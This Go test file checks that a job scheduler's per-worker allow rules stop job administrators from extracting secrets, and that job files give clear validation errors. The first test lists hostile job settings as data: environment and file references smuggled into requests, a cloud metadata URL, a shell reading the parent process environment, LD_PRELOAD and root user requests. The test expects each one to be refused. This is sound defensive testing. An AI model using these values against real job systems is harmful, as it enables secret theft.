package jobfile_test

import (
	"strings"
	"testing"
	"time"

	"github.com/elasticjob-go/elasticjob/job"
	"github.com/elasticjob-go/elasticjob/jobfile"
	"github.com/elasticjob-go/elasticjob/ops"
	"github.com/elasticjob-go/elasticjob/strategy"
)

// Whoever administers jobs gets nothing of the worker that serves them but what its file lists.
func TestAnAdminReadsNoSecrets(t *testing.T) {
	t.Setenv("DB_PASSWORD", "geheim")
	secret := write(t, "geheim")[0]
	request := func(more map[string]string) map[string]string {
		props := map[string]string{"http.method": "POST", "http.uri": "http://sink.example/", "http.retry.attempts": "0"}
		for name, value := range more {
			props[name] = value
		}
		return props
	}
	inBubble(t, func(t *testing.T, f *fleet) {
		app := f.load(write(t, "node: {serve: true}\nallow:\n  pay-*: {http: {hosts: [sink.example]}, script: {commands: [/opt/pay/*]}}\n")...)
		attacks := map[string]ops.CreateRequest{
			"a variable in a URL":           {Implementation: "HTTP", Config: job.Config{Props: request(map[string]string{"http.uri": "http://sink.example/?x=${env:DB_PASSWORD}"})}},
			"a file in a body":              {Implementation: "HTTP", Config: job.Config{Props: request(map[string]string{"http.data": "${file:" + secret + "}"})}},
			"another host":                  {Implementation: "HTTP", Config: job.Config{Props: request(map[string]string{"http.uri": "http://169.254.169.254/"})}},
			"a proxy":                       {Implementation: "HTTP", Config: job.Config{Props: request(map[string]string{"http.proxy": "http://proxy.example:3128"})}},
			"a variable in a header":        {Implementation: "settle", Config: job.Config{ErrorHandler: "WEBHOOK", Props: map[string]string{"webhook.url": "http://sink.example/", "webhook.header.X": "${env:DB_PASSWORD}"}}},
			"a messenger elsewhere":         {Implementation: "settle", Config: job.Config{ErrorHandler: "SLACK", Props: map[string]string{"slack.webhook": "https://hooks.slack.com/${env:PATH}"}}},
			"a shell":                       {Implementation: "SCRIPT", Config: job.Config{Props: map[string]string{"script.command.args": `["/bin/sh","-c","cat /proc/$PPID/environ"]`}}},
			"the environment of the worker": {Implementation: "SCRIPT", Config: job.Config{Props: map[string]string{"script.command.line": "/opt/pay/run", "script.inherit": "*"}}},
			"another loader":                {Implementation: "SCRIPT", Config: job.Config{Props: map[string]string{"script.command.line": "/opt/pay/run", "script.env.LD_PRELOAD": "/tmp/x.so"}}},
			"another user":                  {Implementation: "SCRIPT", Config: job.Config{Props: map[string]string{"script.command.line": "/opt/pay/run", "script.user": "root"}}},
		}
		name := func(attack string) string { return "pay-" + strings.ReplaceAll(attack, " ", "-") }
		attacks["no rule is for it"] = ops.CreateRequest{Implementation: "HTTP", Config: job.Config{Name: "other", Props: request(nil)}}
		attacks["fine"] = ops.CreateRequest{Implementation: "HTTP", Config: job.Config{Props: request(nil)}}
		for attack, r := range attacks {
			if r.Config.Name == "" {
				r.Config.Name = name(attack)
			}
			r.Config.ShardingTotalCount = 1
			if err := ops.New(f.reg).Create(t.Context(), r); err != nil {
				t.Fatal(err)
			}
		}
		pass(5 * time.Second)
		for attack, r := range attacks {
			r.Config.Name = strings.ReplaceAll(name(attack), name("no rule is for it"), "other")
			info, err := ops.New(f.reg).Job(r.Config.Name).Describe(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			isRefused := len(info.Faults) > 0 && strings.Contains(info.Faults[0].Cause, "this worker does not allow it to the job")
			if isRefused == (attack == "fine") || strings.Contains(f.log.String(), "geheim") {
				t.Errorf("%s: %+v", attack, info.Faults)
			}
		}
		if err := app.Shutdown(t.Context()); err != nil {
			t.Error(err)
		}
	})
}

// Without serve, and without the section, a job may use everything; the check tells of what it may not, and of names
// that this process does not know.
func TestCheck(t *testing.T) {
	const script = "jobs: {a: {type: SCRIPT, shardingTotalCount: 1, props: {script.command.line: /bin/true}}}\n"
	o := options(nil)
	o.Job = []job.Option{
		job.WithListener("audit", struct{ job.Listener }{}),
		job.WithStrategy("FIRST", strategy.Func(func(strategy.Request) []string { return nil })),
	}
	for text, want := range map[string]string{
		script: "",
		"allow: {'*': {script: {commands: [/bin/*]}}}\n" + script:                                       "",
		"allow: {'*': {everything: true}}\n" + script:                                                   "",
		"allow: null\n" + script:                                                                        "",
		"allow: {}\n" + script:                                                                          ":3:78: jobs.a.props: script.command.line: \"/bin/true\": this worker does not allow it to the job; script.commands in its section allow would",
		"node: {serve: true}\n" + script:                                                                "does not allow",
		"allow: {b: {script: {commands: [/bin/*]}}}\n" + script:                                         "does not allow",
		"jobs: {a: {type: HTTP, shardingTotalCount: 1}}":                                                "jobs.a.props: http.method: is required",
		"defaults: {jobErrorHandlerType: WEBHOOK}\n" + script:                                           "jobs.a.props: webhook.url: is required",
		"defaults: {jobErrorHandlerType: SLACK, props: {slack.webhook: '${env:NOT_THERE}'}}\n" + script: `jobs.a.props: slack.webhook: reference "${env:NOT_THERE}": this process has no such variable`,
		"jobs: {a: {type: HTTP, shardingTotalCount: 1, jobShardingStrategyType: foo, props: {http.url: 'http://a/', http.method: GET}}}": ":2:72: jobs.a.jobShardingStrategyType: unknown sharding strategy \"foo\": allowed are AVG_ALLOCATION",
		"defaults: {jobErrorHandlerType: 'LOG,PAGER'}\n" + script:                                                                        `:2:33: jobs.a.jobErrorHandlerType: "PAGER" is not known here, DINGTALK, `,
		"defaults: {jobListenerTypes: [audit, foo]}\n" + script:                                                                          `:2:30: jobs.a.jobListenerTypes: "foo": not known here, audit are; `,
		"defaults: {jobShardingStrategyType: FIRST}\n" + script:                                                                          "",
		"jobs: {a: {implementation: settle, shardingTotalCount: 1, jobListenerTypes: [audit]}}":                                          "",
	} {
		f, err := jobfile.Read(o, write(t, memoryFile+text)...)
		if err != nil {
			t.Fatal(err)
		}
		if err := f.Check(); (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", text, err)
		}
	}
	_, err := jobfile.Read(options(nil), write(t, memoryFile+script+"allow:\n  a:\n    http: {hosts: ['https://a'], networks: [x]}\n    script: {user: a b}")...)
	for _, want := range []string{`:5:19: allow.a.http.hosts: "https://a": names such as api`, `allow.a.http.networks: "x"`, `:6:20: allow.a.script.user: "a b"`} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %s", err, want)
		}
	}
}
